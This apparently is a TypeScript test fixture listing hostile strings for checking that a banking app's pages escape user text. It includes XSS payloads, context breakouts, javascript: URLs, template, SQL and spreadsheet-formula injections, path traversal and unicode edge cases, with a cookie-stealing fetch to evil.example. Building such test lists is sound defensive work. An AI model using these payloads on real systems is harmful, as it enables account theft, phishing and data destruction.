/**
 * What a bank, or somebody who pays a cent to reach a stranger's statement, may write into any text. Markup carries the
 * class `hostile` wherever it can, so that a single element of it in a page is found; scripts call `alert`, which the
 * tests listen for. Controls and halves of characters are the business of the unit tests: they do not get through JSON alike.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  ...scripts(),
  ...handlers(),
  ...outOfContext(),
  ...addresses(),
  ...templates(),
  ...styles(),
  ...encodings(),
  ...prototypes(),
  ...formulas(),
  ...unicode(),
]

function scripts(): string[] {
  return [
    '<script class=hostile>alert(1)</script>',
    '<SCRIPT CLASS=hostile>alert(2)</SCRIPT>',
    '<script class=hostile src=https://evil.example/x.js></script>',
    '<script class=hostile type=module>import("https://evil.example/m.js")</script>',
    '<scr<script>ipt class=hostile>alert(3)</scr</script>ipt>',
    '</script><script class=hostile>alert(4)</script>',
    '</title><script class=hostile>alert(5)</script>',
    '</textarea><script class=hostile>alert(6)</script>',
    '</style><script class=hostile>alert(7)</script>',
    '--><script class=hostile>alert(8)</script>',
    ']]><script class=hostile>alert(9)</script>',
    '<script class=hostile>document.title="owned"</script>',
    '<script class=hostile>fetch("https://evil.example/?"+document.cookie)</script>',
    '<script\x20class=hostile>alert(10)<\x2fscript>',
    '<noscript><p title="</noscript><img class=hostile src=x onerror=alert(11)>">',
    '<template><script class=hostile>alert(12)</script></template>',
    '<script class=hostile type="application/json">{"a":1}</script>',
    'self.__next_f.push([1,"</script><script>alert(13)</script>"])',
    '<!--<script class=hostile>alert(14)//-->',
  ]
}

function handlers(): string[] {
  return [
    '<img class=hostile src=x onerror=alert(20)>',
    '<img class=hostile src=x onerror="alert(21)">',
    "<img class=hostile src='x' onerror='alert(22)'>",
    '<img class=hostile/src=x/onerror=alert(23)>',
    '<svg class=hostile onload=alert(24)>',
    '<svg class=hostile><script>alert(25)</script></svg>',
    '<svg class=hostile><animate onbegin=alert(26) attributeName=x dur=1s>',
    '<svg class=hostile><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(27)</script></svg>#x">',
    '<body class=hostile onload=alert(28)>',
    '<iframe class=hostile srcdoc="<script>parent.alert(29)</script>"></iframe>',
    '<iframe class=hostile src=javascript:alert(30)></iframe>',
    '<object class=hostile data="javascript:alert(31)"></object>',
    '<embed class=hostile src="javascript:alert(32)">',
    '<video class=hostile><source onerror=alert(33)></video>',
    '<audio class=hostile src=x onerror=alert(34)>',
    '<details class=hostile open ontoggle=alert(35)>',
    '<input class=hostile autofocus onfocus=alert(36)>',
    '<select class=hostile autofocus onfocus=alert(37)>',
    '<marquee class=hostile onstart=alert(38)>',
    '<math class=hostile><maction actiontype="statusline" xlink:href="javascript:alert(39)">x</maction></math>',
    '<div class=hostile onpointerover="alert(40)">x</div>',
    '<style class=hostile onload=alert(41)></style>',
    '<link class=hostile rel=stylesheet href=https://evil.example/x.css onload=alert(42)>',
    '<base class=hostile href=https://evil.example/>',
    '<meta class=hostile http-equiv=refresh content="0;url=https://evil.example/">',
    '<form class=hostile action=https://evil.example/><button>Approve</button></form>',
    '<button class=hostile formaction=javascript:alert(43)>x</button>',
    '<dialog class=hostile open><h1>Sign in again</h1></dialog>',
    '<portal class=hostile src=https://evil.example/>',
    '<a class=hostile href="javascript:alert(44)">Open</a>',
  ]
}

/** Meant for where a text is put into an attribute, a script or a URL. */
function outOfContext(): string[] {
  return [
    '"><img class=hostile src=x onerror=alert(50)>',
    "'><img class=hostile src=x onerror=alert(51)>",
    '`><img class=hostile src=x onerror=alert(52)>',
    '" autofocus onfocus="alert(53)" x="',
    "' onmouseover='alert(54)' x='",
    '" onclick=alert(55)//',
    "';alert(56)//",
    '";alert(57)//',
    '\\";alert(58)//',
    '\\u003cimg class=hostile src=x onerror=alert(59)\\u003e',
    '</option></select><img class=hostile src=x onerror=alert(60)>',
    '</td></tr></table><img class=hostile src=x onerror=alert(61)>',
    '</a><a class=hostile href=//evil.example>',
    '*/alert(62)/*',
    '\u2028alert(63)\u2029',
    '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"alert(64)"}}',
    '{"__html":"<img class=hostile src=x onerror=alert(65)>"}',
    '1;window.location="https://evil.example"',
  ]
}

function addresses(): string[] {
  const scheme = 'javascript'
  return [
    `${scheme}:alert(70)`,
    `${scheme.toUpperCase()}:alert(71)`,
    'java\tscript:alert(72)',
    ' javascript:alert(73)',
    'data:text/html,<script>alert(74)</script>',
    'vbscript:msgbox(75)',
    '//evil.example/path',
    'https://evil.example/?x=<script>',
    'https://user:password@evil.example',
    '/api/auth/signout',
    '../../../../etc/passwd',
    '?token=x#<img class=hostile src=x onerror=alert(76)>',
  ]
}

function templates(): string[] {
  return [
    '{{7*7}}',
    '${alert(80)}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{name}',
    '{count, plural, one {#} other {<b>#</b>}}',
    '<b>bold</b><link>x</link>',
    "{'quoted'}",
    '%s%n%x',
    '$& $1 $`',
    '\\1 \\0',
  ]
}

function styles(): string[] {
  return [
    '<style class=hostile>*{background:url(https://evil.example/)}</style>',
    '<div class=hostile style="position:fixed;inset:0;background:red">Pay here</div>',
    'expression(alert(90))',
    'url(https://evil.example/x.png)',
    '}</style><p class=hostile>',
    '</p><h1 class=hostile>Your account is locked</h1>',
  ]
}

function encodings(): string[] {
  return [
    '&lt;script&gt;alert(100)&lt;/script&gt;',
    '&#60;img class=hostile src=x onerror=alert(101)&#62;',
    '%3Cscript%3Ealert(102)%3C/script%3E',
    '＜script＞alert(103)＜/script＞',
    '\\x3cscript\\x3ealert(104)\\x3c/script\\x3e',
    '+ADw-script+AD4-alert(105)+ADw-/script+AD4-',
    '&amp;&quot;&#39;&nbsp;',
    '<<img class=hostile src=x onerror=alert(106)//>',
  ]
}

function prototypes(): string[] {
  return ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true', '[object Object]', '-0']
}

function formulas(): string[] {
  return [
    '=HYPERLINK("https://evil.example","Refund")',
    '+SUM(1,1)',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\t=1+1',
    "'; DROP TABLE transaction; --",
    "' OR '1'='1",
    '1e309',
  ]
}

function unicode(): string[] {
  return [
    'Zalgo t̷̡̛e̴̡͝x̸̧͘t̶̢̛ ̶̨͝h̵̨̛e̸̢͠r̷̨̛e̴̡͝',
    'مرحبا بالعالم 12,50 €',
    'שלום 34,00',
    '\u202Egnp.exe\u202C',
    '\u2066isolated\u2069',
    '👨‍👩‍👧‍👦 family 🏳️‍🌈',
    '\uFEFFbyte order mark',
    'a\u0000b',
    'lone \uD83D surrogate',
    '\u200Bzero\u200Dwidth\u2060',
    `long ${'x'.repeat(600)}`,
    'ＦＵＬＬＷＩＤＴＨ',
    'ﷺﷺﷺ',
  ]
}
